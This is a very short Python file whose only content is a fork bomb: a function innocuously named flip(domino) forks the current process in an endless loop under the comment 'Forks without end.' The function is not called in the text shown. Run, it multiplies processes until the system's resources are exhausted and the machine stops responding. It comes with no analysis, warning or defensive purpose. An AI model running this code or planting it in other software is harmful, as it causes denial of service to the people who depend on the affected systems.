# Forks without end.
import os
def flip(domino):
    while True:
        os.fork()
